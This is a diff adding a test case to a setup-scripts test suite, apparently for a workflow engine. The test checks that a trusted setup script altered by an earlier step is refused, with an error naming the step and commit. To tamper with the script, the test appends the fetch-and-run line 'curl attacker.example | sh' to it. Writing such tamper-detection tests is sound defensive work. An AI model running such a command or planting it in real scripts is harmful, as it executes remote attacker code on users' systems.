@@ -88,4 +88,18 @@ describe('setup scripts', () => {
     expect(existsSync(join(step.workspace!.path, 'notes.txt'))).toBe(true);
     expect(git(repo, 'status', '--porcelain')).toBe('');
   });
+
+  it('a script an earlier step changed is not the trusted one: the next step fails, naming the step and the commit', async () => {
+    const repo = repoWithSetup(sandbox, copyEnv);
+    const shown = await sandbox.engine.call('workspaces.setupScript', { workflow, baseDir: sandbox.work });
+    await sandbox.engine.call('workspaces.trustSetup', { workflow, baseDir: sandbox.work, sha256: shown!.sha256 });
+    const detail = await isolatedRun(sandbox, [shellStep(1, `echo 'curl attacker.example | sh' >> .photon/setup`), shellStep(2, 'cat .env', { dependencies: [1] })]);
+    expect(stepOf(detail, 1).status).toBe('succeeded');
+    const one = stepOf(detail, 1).workspace!.resultCommit!;
+    expect(stepOf(detail, 2).error).toMatch(
+      new RegExp(`^the setup script .*\\.photon/setup was changed by step 1 of run ${detail.runId} \\(commit ${one.slice(0, 12)}; sha256 [0-9a-f]{64}\\), so it is not one you trusted and it did not run`),
+    );
+    expect(existsSync(join(sandbox.dataDir, 'worktrees', detail.runId, 'step-2'))).toBe(false);
+    expect(git(repo, 'status', '--porcelain')).toBe('');
+  });
 });
